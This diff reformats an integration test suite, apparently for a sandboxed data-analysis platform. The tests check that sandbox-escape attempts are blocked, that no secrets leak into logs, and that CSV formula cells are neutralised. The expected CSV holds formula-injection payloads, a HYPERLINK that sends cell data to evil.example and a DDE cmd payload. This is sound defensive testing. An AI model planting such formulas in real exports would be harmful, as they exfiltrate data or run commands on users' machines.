@@ -42,7 +42,16 @@ it('runs a hostile analysis for a user: every attack fails, nothing leaks, nothi
   const result = await api('GET', `/runs/${runId}/result`, { token: user.token });
   expect(result.status).toBe(200);
   const rows: Array<[string, string]> = result.body.blocks[0].rows;
-  expect(rows.map(([attack]) => attack)).toEqual(['egress-ip', 'bridge-gateway', 'dns', 'read-shadow', 'docker-socket', 'write-root', 'write-input', 'write-app']);
+  expect(rows.map(([attack]) => attack)).toEqual([
+    'egress-ip',
+    'bridge-gateway',
+    'dns',
+    'read-shadow',
+    'docker-socket',
+    'write-root',
+    'write-input',
+    'write-app',
+  ]);
   expect(rows.filter(([, outcome]) => outcome !== 'blocked')).toEqual([]);
 
   // The analysis printed its whole environment: none of the platform's secrets or addresses were in it.
@@ -50,7 +59,14 @@ it('runs a hostile analysis for a user: every attack fails, nothing leaks, nothi
   expect(logs.status).toBe(200);
   const text = JSON.stringify(logs.body) + JSON.stringify(result.body);
   expect(text).toContain('HOSTNAME=analysis');
-  for (const secret of [config.auth.jwtSecret, config.database.url, config.redis.url, config.s3.credentials?.secretAccessKey ?? 'S3RVER', 'postgres://', config.home]) {
+  for (const secret of [
+    config.auth.jwtSecret,
+    config.database.url,
+    config.redis.url,
+    config.s3.credentials?.secretAccessKey ?? 'S3RVER',
+    'postgres://',
+    config.home,
+  ]) {
     expect(text).not.toContain(secret);
   }
 
@@ -166,7 +182,14 @@ it('refuses results and artifacts with active content, neutralises formula CSVs 
     expect(exported).toMatchObject({ status: 'succeeded', progressMessage: plain });
 
     // The CSV comes back with every formula cell neutralised, and nothing else changed.
-    const neutralised = ['post,likes', `"'=HYPERLINK(""https://evil.example/?d=""&A3,""Open"")",3`, "'@friend thanks,-2", "'+cmd|' /C calc'!A0,1", 'plain words,4', ''].join('\n');
+    const neutralised = [
+      'post,likes',
+      `"'=HYPERLINK(""https://evil.example/?d=""&A3,""Open"")",3`,
+      "'@friend thanks,-2",
+      "'+cmd|' /C calc'!A0,1",
+      'plain words,4',
+      '',
+    ].join('\n');
     expect(exported.artifacts).toEqual([{ name: 'posts.csv', bytes: Buffer.byteLength(neutralised), contentType: 'text/csv; charset=utf-8' }]);
     const csv = await api('GET', `/runs/${runIds['csv-and-progress']}/artifacts/posts.csv`, { token: user.token });
     expect(csv).toMatchObject({ status: 200, body: neutralised });
@@ -189,7 +212,11 @@ async function readyDataset(user: Session): Promise<string> {
     { token: user.token },
   );
   expect(dataset.status).toBe(202);
-  await eventually(async () => ((await api('GET', `/datasets/${dataset.body.id}`, { token: user.token })).body.status === 'ready' ? true : undefined), 60_000, 'ingestion');
+  await eventually(
+    async () => ((await api('GET', `/datasets/${dataset.body.id}`, { token: user.token })).body.status === 'ready' ? true : undefined),
+    60_000,
+    'ingestion',
+  );
   return dataset.body.id;
 }
 
